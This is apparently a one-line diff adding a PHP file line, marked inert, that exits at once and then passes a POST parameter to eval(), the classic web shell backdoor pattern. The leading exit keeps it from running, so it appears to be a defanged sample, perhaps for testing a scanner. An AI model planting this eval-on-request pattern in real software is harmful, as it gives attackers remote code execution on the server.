@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $x=filter_input(INPUT_POST,"c"); eval($x);
